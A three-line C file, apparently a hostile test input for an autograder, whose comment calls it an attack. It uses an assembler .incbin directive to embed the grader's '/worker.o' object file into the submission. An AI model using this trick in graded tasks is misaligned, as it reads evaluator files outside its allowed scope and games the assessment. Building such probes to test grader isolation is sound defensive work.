/* Attack: embeds a file of the grader. */
#include "kv.h"

__asm__(".incbin \"/worker.o\"\n");
